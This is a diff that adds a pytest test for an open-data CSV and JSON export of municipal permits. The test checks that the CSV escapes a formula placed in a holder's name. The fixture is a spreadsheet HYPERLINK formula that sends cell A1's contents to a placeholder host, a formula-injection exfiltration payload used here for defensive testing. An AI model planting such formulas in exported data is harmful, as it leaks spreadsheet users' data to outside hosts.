@@ -66,3 +66,19 @@ def test_the_command_refuses_bad_arguments(olimpia: Any) -> None:
         call_command("export_open_data", "--as-of", "30/11/2026")
     with pytest.raises(CommandError, match="não encontrado"):
         call_command("export_open_data", "--municipio", "0000000")
+
+
+def test_a_formula_in_a_holders_name_is_neutralized_in_the_csv(
+    client: Client, olimpia_permit: Permit, today: dt.date
+) -> None:
+    from apps.registry.models import Person
+
+    formula = '=HYPERLINK("http://exemplo.invalid/?x="&A1,"Clique")'
+    Person.objects.filter(operators=olimpia_permit.operator).update(name=formula)
+    call_command("export_open_data", "--as-of", today.isoformat(), stdout=io.StringIO())
+    text = client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode()
+    assert list(csv.DictReader(io.StringIO(text)))[0]["holder_name"] == "'" + formula
+    document = json.loads(client.get("/dados-abertos/3533908/alvaras-em-vigor.json").getvalue())
+    assert (
+        document["permits"][0]["holder_name"] == formula
+    )  # JSON is data, not a spreadsheet: kept as written
